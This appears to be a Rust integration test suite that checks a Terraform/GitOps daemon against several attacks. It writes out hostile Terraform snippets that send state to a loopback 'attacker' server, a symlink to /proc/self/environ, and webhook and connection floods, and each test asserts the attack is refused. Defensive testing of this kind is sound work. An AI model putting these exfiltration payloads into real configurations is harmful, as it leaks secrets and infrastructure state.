//! Attacks on the daemon: hostile ref names, hostile files, hostile processes. Each test
//! shows the hole closed with the real binary, git, terraform and moto.

use std::time::Duration;

use serde_json::Value;

use crate::support::daemon::Fixture;
use crate::support::eventually;

/// Waits for the `config_error` alert of `env` about `commit`, and returns it.
fn config_error_for(fixture: &Fixture, env: &str, commit: &str) -> Value {
    let of_commit = |f: &Fixture| {
        f.sink
            .all(env, "config_error")
            .into_iter()
            .find(|alert| alert["commit"] == commit)
    };
    fixture.wait_for(&format!("a config_error for {env} at {commit}"), |f| {
        of_commit(f).is_some()
    });
    of_commit(fixture).unwrap()
}

/// A server on the daemon's loopback that an attack tries to reach; `accept` tells if it did.
fn attacker() -> (std::net::TcpListener, std::net::SocketAddr) {
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    attacker.set_nonblocking(true).unwrap();
    let address = attacker.local_addr().unwrap();
    (attacker, address)
}

/// A branch named `refs/remotes/origin/main` is an ordinary, untrusted branch: its commit is
/// only previewed, never planned or applied to prod as if it were `main`.
#[test]
fn a_branch_named_like_a_remote_ref_never_stands_in_for_main() {
    let fixture = Fixture::new("");
    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
    fixture.wait_for("prod applied", |f| f.applied("prod", &first));

    fixture.clone.git(&["checkout", "-q", "-b", "attack"]);
    fixture
        .clone
        .replace("modules/prod-app/main.tf", "\"v1\"", "\"unreviewed\"");
    let attack = fixture.clone.commit_all("not reviewed");
    fixture.push("HEAD:refs/heads/refs/remotes/origin/main");
    fixture.wait_for("the branch previewed for prod", |f| {
        f.runs("prod")
            .iter()
            .any(|run| run["commit"] == attack.as_str() && run["kind"] == "preview")
    });
    // Two more polls: a merged run of the commit would have started by now.
    fixture.wait_for_polls(2);
    let merged: Vec<_> = fixture
        .runs("prod")
        .into_iter()
        .filter(|run| run["commit"] == attack.as_str() && run["kind"] != "preview")
        .collect();
    assert!(merged.is_empty(), "merged runs of the branch: {merged:#?}");
    assert_eq!(fixture.environment("prod")["last_applied"], first.as_str());
    assert_eq!(fixture.environment("prod")["head"], first.as_str());

    // The mirror's heads match the remote's again, so a quiet poll fetches nothing.
    let logs = fixture.logs();
    let last_poll = logs
        .lines()
        .rev()
        .find(|line| line.contains("polled the config repository"))
        .expect("a poll logged");
    assert!(last_poll.contains("fetched=false"), "{last_poll}");
}

/// A 100,000-level `karrots.yaml` (200 KB) and a 2 MiB one are located problems, not a
/// stack overflow or a memory spike.
#[test]
fn check_refuses_deep_and_large_files_with_a_located_message() {
    let repo = crate::support::ConfigRepo::valid();
    repo.write(
        "environments/prod/karrots.yaml",
        &format!("{}a\n", "- ".repeat(100_000)),
    );
    repo.write(
        "modules/app-dev/big.tf",
        &format!("# {}\n", "x".repeat(2 * 1024 * 1024)),
    );
    let run = repo.check();
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        run.stderr_lines(),
        vec![
            "environments/prod/karrots.yaml:1: nested more than 64 levels deep",
            "modules/app-dev/big.tf:1: cannot read the file: the file is 2097155 bytes; Karrots reads at most 1048576 bytes",
        ],
        "{}",
        run.stderr
    );
}

/// A branch whose `karrots.yaml` nests 100,000 levels costs its preview a `config_error`;
/// the daemon stays up and still applies the next merged commit.
#[test]
fn a_deeply_nested_file_on_a_branch_does_not_take_the_daemon_down() {
    let fixture = Fixture::new("");
    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
    fixture.wait_for("prod applied", |f| f.applied("prod", &first));

    fixture.clone.git(&["checkout", "-q", "-b", "deep"]);
    fixture.clone.write(
        "environments/prod/karrots.yaml",
        &format!("{}a\n", "- ".repeat(100_000)),
    );
    let deep = fixture.clone.commit_all("deep");
    fixture.push("deep");
    let alert = config_error_for(&fixture, "prod", &deep);
    assert!(
        alert["message"]
            .as_str()
            .unwrap()
            .contains("environments/prod/karrots.yaml:1: nested more than 64 levels deep"),
        "{alert}"
    );

    fixture.clone.git(&["checkout", "-q", "main"]);
    fixture.merge_prod_label("v2", "v2 after the attack");
}

/// An unmerged commit cannot read the merged state out through `terraform_remote_state`: its
/// preview is refused before terraform runs, and the "attacker" never hears from it.
#[test]
fn a_preview_cannot_send_state_out_through_remote_state() {
    let (attacker, address) = attacker();
    let fixture = Fixture::prod_applied("");

    fixture.clone.git(&["checkout", "-q", "-b", "exfiltrate"]);
    fixture.clone.append(
        "modules/prod-app/main.tf",
        &format!(
            "\ndata \"terraform_remote_state\" \"out\" {{\n  backend = \"http\"\n  config  = {{ address = \"http://{address}/${{terraform_data.app.output}}\" }}\n}}\n"
        ),
    );
    let commit = fixture.clone.commit_all("exfiltrate");
    fixture.push("exfiltrate");
    let alert = config_error_for(&fixture, "prod", &commit);
    assert!(
        alert["message"]
            .as_str()
            .unwrap()
            .contains("data source \"terraform_remote_state\" is refused for environment prod"),
        "{alert}"
    );
    assert!(
        attacker.accept().is_err(),
        "the attacker's server was reached"
    );
}

/// A preview's provider runs code of an unmerged commit: it reaches the AWS endpoint (here
/// the emulator) and nothing else — not even a server on the daemon's own loopback.
#[test]
fn a_previews_provider_reaches_aws_and_no_other_host() {
    let (attacker, address) = attacker();
    let fixture = Fixture::prod_applied("");
    let finished = |f: &Fixture, commit: &str| {
        f.runs("prod").into_iter().find(|run| {
            run["commit"] == commit && run["kind"] == "preview" && !run["result"].is_null()
        })
    };

    fixture.clone.git(&["checkout", "-q", "-b", "reads-aws"]);
    fixture.clone.append(
        "modules/prod-app/main.tf",
        "\nterraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n  }\n}\n\
         provider \"aws\" {\n  region = \"us-east-1\"\n  access_key = \"preview\"\n  secret_key = \"preview\"\n  skip_credentials_validation = true\n  skip_requesting_account_id = true\n}\n\
         data \"aws_vpcs\" \"all\" {}\n",
    );
    let reads = fixture.clone.commit_all("a preview that reads AWS");
    fixture.push("reads-aws");
    fixture.wait_for("the AWS preview finished", |f| {
        finished(f, &reads).is_some()
    });
    let run = finished(&fixture, &reads).unwrap();
    assert_eq!(run["result"], "no_changes", "{run:#}");

    fixture.clone.git(&["checkout", "-q", "-b", "exfiltrate"]);
    fixture.clone.append(
        "modules/prod-app/main.tf",
        &format!(
            "\nprovider \"aws\" {{\n  alias = \"out\"\n  region = \"us-east-1\"\n  access_key = \"preview\"\n  secret_key = \"preview\"\n  skip_credentials_validation = true\n  skip_requesting_account_id = true\n  max_retries = 1\n  endpoints {{\n    ec2 = \"http://{address}\"\n  }}\n}}\n\
             data \"aws_vpcs\" \"out\" {{\n  provider = aws.out\n  tags = {{ output = terraform_data.app.output }}\n}}\n"
        ),
    );
    let exfiltrate = fixture.clone.commit_all("a preview that calls out");
    fixture.push("exfiltrate");
    fixture.wait_for("the exfiltrating preview finished", |f| {
        finished(f, &exfiltrate).is_some()
    });
    let run = finished(&fixture, &exfiltrate).unwrap();
    assert_eq!(run["result"], "failed", "{run:#}");
    assert!(
        attacker.accept().is_err(),
        "the attacker's server was reached"
    );
}

/// A file over `max_file_size` in an environment's modules refuses the commit by the size in
/// its git header, before the blob is inflated; the daemon goes on with the next commit.
#[test]
fn a_file_over_max_file_size_refuses_the_commit_naming_it() {
    let mut fixture = Fixture::prod_applied("");
    fixture.stop("-TERM");
    fixture.extra_config.push_str("max_file_size: 1MiB\n");
    fixture.start();

    fixture
        .clone
        .write("modules/prod-app/payload.bin", &"x".repeat(1024 * 1024 + 1));
    let large = fixture.clone.commit_all("a 1 MiB + 1 byte payload");
    fixture.push("main");
    let alert = config_error_for(&fixture, "prod", &large);
    assert!(
        alert["message"].as_str().unwrap().contains(
            "modules/prod-app/payload.bin:1: the file is 1048577 bytes; a run exports files of at most 1048576 bytes (max_file_size in the daemon configuration)"
        ),
        "{alert}"
    );

    fixture
        .clone
        .write("modules/prod-app/payload.bin", &"x".repeat(1024 * 1024));
    let fits = fixture.clone.commit_all("a payload that fits");
    fixture.push("main");
    fixture.wait_for("the commit that fits applied", |f| {
        f.applied("prod", &fits) && f.environment("prod")["status"] == "in_sync"
    });
}

/// A merged commit whose plan fails is not applied, and says so: an `apply_failed` alert
/// naming the plan's error (before, only the run row showed it). A failure not known to pass
/// is tried once more; failing the same way again, it is `failed` until a new commit, with a
/// second alert saying the retries gave up.
#[test]
fn a_merged_commit_whose_plan_fails_is_alerted_tried_again_once_and_given_up() {
    let fixture = Fixture::prod_applied("");
    fixture.clone.append(
        "modules/prod-app/main.tf",
        "\nresource \"terraform_data\" \"broken\" {\n  input = var.undeclared\n}\n",
    );
    let broken = fixture
        .clone
        .commit_all("a reference to an undeclared variable");
    fixture.push("main");
    let of_commit = |f: &Fixture| -> Vec<Value> {
        f.sink
            .all("prod", "apply_failed")
            .into_iter()
            .filter(|alert| alert["commit"] == broken.as_str())
            .collect()
    };
    fixture.wait_for("an apply_failed alert", |f| !of_commit(f).is_empty());
    let first = of_commit(&fixture)[0]["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        first.starts_with(&format!("the plan of {} failed", &broken[..7]))
            && first.contains("tried once more at")
            && first.contains("undeclared"),
        "{first}"
    );
    fixture.wait_for("the retry given up", |f| {
        f.environment("prod")["status"] == "failed" && of_commit(f).len() > 1
    });
    let alerts = of_commit(&fixture);
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    assert!(
        alerts[1]["message"]
            .as_str()
            .unwrap()
            .contains("failed the same way 2 times"),
        "{alerts:#?}"
    );
    let plans = fixture
        .runs("prod")
        .into_iter()
        .filter(|run| run["commit"] == broken.as_str() && run["kind"] == "plan")
        .count();
    assert_eq!(plans, 2);
}

/// A remote emptied of branches (a wrong URL, a botched migration) is a `source_error`; the
/// mirror keeps its branches and the environments stay where they are.
#[test]
fn a_remote_emptied_of_branches_is_alerted_and_the_mirror_kept() {
    let fixture = Fixture::prod_applied("");
    let head = fixture.clone.git(&["rev-parse", "HEAD"]);
    let remote = fixture.remote.path();
    // Both branches in one transaction: a poll between two deletions would rightly prune
    // the first.
    let mut delete = std::process::Command::new("git")
        .arg("--git-dir")
        .arg(remote)
        .args(["update-ref", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    let transaction = "start\ndelete refs/heads/main\ndelete refs/heads/dev\ncommit\n";
    let stdin = delete.stdin.as_mut().unwrap();
    stdin.write_all(transaction.as_bytes()).unwrap();
    assert!(delete.wait().unwrap().success());
    fixture.wait_for("a source_error", |f| {
        f.sink.find("", "source_error").is_some()
    });
    let alert = fixture.sink.find("", "source_error").unwrap();
    assert!(
        alert["message"]
            .as_str()
            .unwrap()
            .contains("the remote lists no branches"),
        "{alert}"
    );
    let mirror = fixture.state_dir().join("mirror.git");
    let kept = std::process::Command::new("git")
        .arg("--git-dir")
        .arg(&mirror)
        .args(["rev-parse", "refs/remotes/origin/main"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&kept.stdout).trim(), head);
    assert_eq!(fixture.environment("prod")["last_applied"], head.as_str());
}

/// A commit with several bad symlinks is refused naming each of them, not only the first.
#[test]
fn every_bad_symlink_of_a_commit_is_named() {
    let fixture = Fixture::prod_applied("");
    let links = [
        ("secrets.tf", "/proc/self/environ"),
        ("sibling.tf", "../dev-app/main.tf"),
        ("gone.tf", "missing.tf"),
    ];
    for (link, target) in links {
        let path = format!("modules/prod-app/{link}");
        fixture.clone.symlink(&path, target);
    }
    let commit = fixture.clone.commit_all("three bad symlinks");
    fixture.push("main");
    let alert = config_error_for(&fixture, "prod", &commit);
    let message = alert["message"].as_str().unwrap();
    for (link, _) in links {
        assert!(
            message.contains(&format!("modules/prod-app/{link}:1: symlink")),
            "{link} not named: {message}"
        );
    }
}

/// Two feature branches that move in one poll each get their preview: one is never recorded
/// `superseded` by a commit of the other.
#[test]
fn previews_of_two_branches_moved_together_do_not_supersede_each_other() {
    let fixture = Fixture::prod_applied("");
    let mut commits = Vec::new();
    for (branch, label) in [("feature-x", "x"), ("feature-y", "y")] {
        fixture.clone.git(&["checkout", "-q", "-b", branch, "main"]);
        fixture.clone.replace(
            "modules/prod-app/main.tf",
            "\"v1\"",
            &format!("\"{label}\""),
        );
        commits.push(fixture.clone.commit_all(&format!("feature {label}")));
    }
    fixture
        .clone
        .git(&["push", "-q", "origin", "feature-x", "feature-y"]);
    let previewed = |f: &Fixture, commit: &str| {
        f.runs("prod").into_iter().any(|run| {
            run["kind"] == "preview" && run["commit"] == commit && run["result"] == "changes"
        })
    };
    fixture.wait_for("both previews", |f| {
        commits.iter().all(|commit| previewed(f, commit))
    });
    let superseded: Vec<Value> = fixture
        .runs("prod")
        .into_iter()
        .filter(|run| run["result"] == "superseded")
        .collect();
    assert!(superseded.is_empty(), "{superseded:#?}");
}

/// Branches that moved while the trust branch could not be read are queued once it can be:
/// before, the poll took their heads as seen, and nothing ran until someone pushed again.
#[test]
fn heads_that_moved_before_the_trust_branch_existed_are_planned_when_it_appears() {
    let mut fixture = Fixture::prod_applied("");
    fixture.stop("-TERM");
    fixture
        .clone
        .replace("modules/prod-app/main.tf", "\"v1\"", "\"v2\"");
    let second = fixture
        .clone
        .commit_all("v2 while the trust branch is missing");
    fixture.push("main");
    fixture.extra_config.push_str("trust_branch: trust\n");
    fixture.start();
    fixture.wait_for("the missing trust branch logged", |f| {
        f.logs().contains("the trust branch does not exist")
    });
    fixture.wait_for_polls(2);
    assert_ne!(fixture.environment("prod")["last_applied"], second.as_str());

    fixture.clone.git(&["push", "-q", "origin", "main:trust"]);
    fixture.wait_for("prod applied at v2", |f| f.applied("prod", &second));
}

/// A `.terraformrc` at the repository root is in no environment's input closure, yet every
/// check reads it: the commit that adds it is refused (naming it), never taken as
/// "unaffected", and the commit that removes it brings the environment back in sync.
#[test]
fn a_forbidden_file_at_the_root_is_refused_and_its_revert_clears_it() {
    let fixture = Fixture::new("");
    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
    fixture.wait_for("prod applied", |f| f.applied("prod", &first));

    fixture
        .clone
        .write(".terraformrc", "provider_installation {\n  direct {}\n}\n");
    let bad = fixture.clone.commit_all("add a CLI config");
    fixture.push("main");
    let alert = config_error_for(&fixture, "prod", &bad);
    assert!(
        alert["message"]
            .as_str()
            .unwrap()
            .contains(".terraformrc:1: a committed .terraformrc is refused"),
        "{alert}"
    );
    assert_eq!(fixture.environment("prod")["status"], "error");
    assert_eq!(fixture.environment("prod")["last_applied"], first.as_str());

    fixture.clone.git(&["rm", "-q", ".terraformrc"]);
    let reverted = fixture.clone.commit_all("remove the CLI config");
    fixture.push("main");
    fixture.wait_for("prod back in sync", |f| {
        f.applied("prod", &reverted) && f.environment("prod")["status"] == "in_sync"
    });
}

/// dev's branch is claimed by dev, so prod never previews it; a commit there that points prod
/// at another account is still refused for prod, visibly, and nothing runs for prod.
#[test]
fn a_dev_branch_commit_that_rewrites_prods_identity_is_alerted_for_prod() {
    let fixture = Fixture::new("");
    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
    fixture.wait_for("both applied", |f| {
        f.applied("prod", &first) && f.applied("dev", &first)
    });

    fixture.clone.git(&["checkout", "-q", "-b", "dev"]);
    fixture.clone.replace(
        "environments/prod/karrots.yaml",
        "\"123456789012\"",
        "\"999999999999\"",
    );
    let attempt = fixture.clone.commit_all("point prod elsewhere");
    fixture.push("dev");
    let alert = config_error_for(&fixture, "prod", &attempt);
    assert!(
        alert["message"]
            .as_str()
            .unwrap()
            .contains("on branch dev: it changes aws.account_id of the environment, which only the trust branch main may change"),
        "{alert}"
    );
    assert_eq!(fixture.environment("prod")["last_applied"], first.as_str());
    assert_eq!(fixture.environment("prod")["status"], "in_sync");
    // dev itself is unaffected by prod's file and goes on.
    fixture.wait_for("dev at the commit", |f| f.applied("dev", &attempt));
}

/// Sends a chunked POST of `chunks` chunks of 1 MiB; returns the status line's code.
fn chunked_post(address: &str, path: &str, headers: &[(&str, &str)], chunks: usize) -> u16 {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    let mut head = format!(
        "POST {path} HTTP/1.1\r\nhost: {address}\r\nconnection: close\r\ntransfer-encoding: chunked\r\n"
    );
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    stream.write_all(head.as_bytes()).unwrap();
    let chunk = vec![b'x'; 1024 * 1024];
    for _ in 0..chunks {
        // The daemon may answer and close before the body is written: not an error.
        if stream
            .write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
            .and_then(|()| stream.write_all(&chunk))
            .and_then(|()| stream.write_all(b"\r\n"))
            .is_err()
        {
            break;
        }
    }
    let _ = stream.write_all(b"0\r\n\r\n");
    let mut response = String::new();
    let _ = stream.read_to_string(&mut response);
    response
        .split_whitespace()
        .nth(1)
        .and_then(|code| code.parse().ok())
        .unwrap_or_else(|| panic!("no status line in {response:?}"))
}

/// A hook without its signature header is refused before its body is read; a signed one is
/// verified as it streams in, and one over 25 MiB without a length is cut off with 413.
#[test]
fn hook_bodies_are_verified_as_they_stream_and_unsigned_ones_are_never_read() {
    let fixture = Fixture::with_poll("", "1h");
    let address = fixture.address.clone();
    assert_eq!(chunked_post(&address, "/hooks/github", &[], 100), 401);
    assert_eq!(chunked_post(&address, "/hooks/gitea", &[], 100), 401);
    let signed = [("x-hub-signature-256", "sha256=00")];
    assert_eq!(chunked_post(&address, "/hooks/github", &signed, 26), 413);
    // A chunked body that fits and is signed correctly is accepted.
    let body = vec![b'x'; 1024 * 1024];
    let signature = {
        use hmac::{KeyInit, Mac};
        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"hook-secret").unwrap();
        mac.update(&body);
        mac.update(&body);
        format!("sha256={}", hex::encode(mac.finalize().into_bytes()))
    };
    let signed = [("x-hub-signature-256", signature.as_str())];
    assert_eq!(chunked_post(&address, "/hooks/github", &signed, 2), 202);

    // 16 signed bodies that stall hold every permit: the next hook gets 503 at once, and
    // once they are gone hooks are taken again.
    let stalled: Vec<_> = (0..16)
        .map(|_| {
            use std::io::Write;
            let mut stream = std::net::TcpStream::connect(&address).unwrap();
            let head = format!("POST /hooks/github HTTP/1.1\r\nhost: {address}\r\ntransfer-encoding: chunked\r\nx-hub-signature-256: sha256=00\r\n\r\n1\r\nx\r\n");
            stream.write_all(head.as_bytes()).unwrap();
            stream
        })
        .collect();
    // Nothing outside the daemon shows the stalled bodies holding their permits, so this
    // waits; a probe sent sooner would take a permit from one of them.
    std::thread::sleep(Duration::from_millis(500));
    let busy = [("x-hub-signature-256", "sha256=00")];
    assert_eq!(chunked_post(&address, "/hooks/github", &busy, 1), 503);
    drop(stalled);
    eventually(
        "a hook taken once the stalled ones are gone",
        Duration::from_secs(5),
        || chunked_post(&address, "/hooks/github", &signed, 2) == 202,
    );

    let logs = fixture.logs();
    assert!(logs.contains("no x-hub-signature-256 header"), "{logs}");
    assert!(logs.contains("too many hook bodies at once"), "{logs}");
    assert!(logs.contains("the body is over 25 MiB"), "{logs}");
}

/// With 256 descriptors, 300 connections that never send a byte neither starve git and
/// terraform nor keep `/healthz` waiting behind them, and each is closed after the header
/// timeout.
#[test]
fn an_idle_connection_flood_leaves_descriptors_and_requests_their_way() {
    use std::io::{Read, Write};
    use std::net::TcpStream;
    use std::time::Duration;

    let mut fixture = Fixture::build().unstarted();
    fixture.open_files = Some(256);
    fixture.start();
    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
    fixture.wait_for("prod applied", |f| f.applied("prod", &first));

    let mut idle: Vec<TcpStream> = (0..300)
        .map(|_| TcpStream::connect(&fixture.address).expect("connect"))
        .collect();

    let mut health = TcpStream::connect(&fixture.address).unwrap();
    health
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    health
        .write_all(b"GET /healthz HTTP/1.1\r\nhost: karrots\r\nconnection: close\r\n\r\n")
        .unwrap();
    let mut answer = String::new();
    let read = health.read_to_string(&mut answer);
    assert!(
        read.is_ok() && answer.starts_with("HTTP/1.1 200"),
        "/healthz behind an idle flood: {read:?} {answer:?}\n{}",
        fixture.logs()
    );

    fixture.merge_prod_label("v2", "v2 while the flood holds");

    // The newest idle connection, never pushed out by a later one, meets the header timeout.
    let newest = idle.pop().unwrap();
    newest
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut byte = [0u8; 1];
    let outcome = (&newest).read(&mut byte);
    assert!(
        matches!(outcome, Ok(0))
            || matches!(&outcome, Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset),
        "an idle connection still open: {outcome:?}"
    );
    let logs = fixture.logs();
    assert!(!logs.contains("Too many open files"), "{logs}");
}
